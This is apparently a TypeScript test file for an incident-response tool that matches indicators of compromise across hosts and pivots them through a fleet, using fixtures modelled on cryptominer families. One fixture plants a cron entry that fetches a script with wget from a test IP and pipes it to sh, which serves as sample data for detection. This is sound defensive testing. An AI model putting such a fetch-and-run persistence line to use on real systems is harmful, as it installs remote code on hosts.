import { describe, expect, it } from 'vitest';
import { iocFindings } from '../../../src/evidence/ioc-findings.js';
import { collectIocs, pivotFleet } from '../../../src/pivot/pivot.js';
import { matchIoc } from '../../../src/evidence/match-ioc.js';
import { facts } from '../rules/fixtures.js';
import type { Finding } from '../../../src/findings/types.js';

const seed = (host: string, iocs: Finding['iocs']): Finding => ({ rule: 'x', severity: 'high', title: 't', host, family: 'ddg', evidence: [], iocs, artifacts: [], remedy: 'r' });

describe('matchIoc', () => {
  it('finds an address in /etc/hosts, cron text and connections, on token edges only', () => {
    const f = facts('clean');
    f.etcHosts!.content += '198.18.3.202 cdn.example\n198.18.3.2020 not-it\n';
    f.cron.push({ ...f.cron[0]!, path: '/etc/cron.d/x', content: '* * * * * root wget -q -O- http://198.18.3.202/a | sh\n' });
    const where = matchIoc(f, { type: 'ip', value: '198.18.3.202' }).map((m) => m.where);
    expect(where).toEqual(['/etc/cron.d/x line 1', '/etc/hosts line 4']);
  });
  it('finds the same binary under another name by sha256, and a dropped path in argv', () => {
    const f = facts('pivot-only');
    expect(matchIoc(f, { type: 'sha256', value: '1'.repeat(64) })[0]!.artifacts).toContainEqual({ type: 'file', path: '/usr/local/bin/logd', reason: `sha256 ${'1'.repeat(64)}` });
    expect(matchIoc(f, { type: 'path', value: '/usr/local/bin/log' })).toEqual([]);
  });
  it('finds keys by fingerprint and accounts by name', () => {
    const f = facts('outlaw');
    expect(matchIoc(f, { type: 'key-fingerprint', value: 'SHA256:mdrfckrKeyCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC' })[0]!.artifacts[0]).toMatchObject({ type: 'authorized-key', lineNumber: 2 });
    expect(matchIoc(facts('aliyunduns'), { type: 'user', value: 'shaojiang99' })).toHaveLength(1);
  });
});

describe('pivot', () => {
  it('collects each indicator once with every host it came from', () => {
    const iocs = collectIocs([seed('a', [{ type: 'ip', value: '1.2.3.4' }]), seed('b', [{ type: 'ip', value: '1.2.3.4' }, { type: 'port', value: '3333' }])]);
    expect(iocs).toEqual([{ ioc: { type: 'ip', value: '1.2.3.4', family: 'ddg', source: 'a' }, seenOn: ['a', 'b'] }]);
  });
  it('reports only what existing findings do not already cover, never a host against itself', () => {
    const f = facts('pivot-only');
    const fleetIocs = [{ ioc: { type: 'ip' as const, value: '198.18.3.202', family: 'ddg' }, seenOn: ['ddg1'] }];
    const first = iocFindings(f, fleetIocs, []);
    expect(first).toHaveLength(1);
    expect(first[0]!.pivot).toEqual({ ioc: fleetIocs[0]!.ioc, seenOn: ['ddg1'] });
    expect(iocFindings(f, fleetIocs, first)).toEqual([]);
    expect(iocFindings(f, [{ ...fleetIocs[0]!, seenOn: ['pivot1'] }], [])).toEqual([]);
  });
  it('pivots the fleet without touching clean hosts', () => {
    const fleet = [facts('clean'), facts('pivot-only')];
    const out = pivotFleet(fleet, new Map([['elsewhere', [seed('elsewhere', [{ type: 'ip', value: '198.18.3.202' }])]]]));
    expect([...out.keys()]).toEqual(['pivot1']);
  });
});
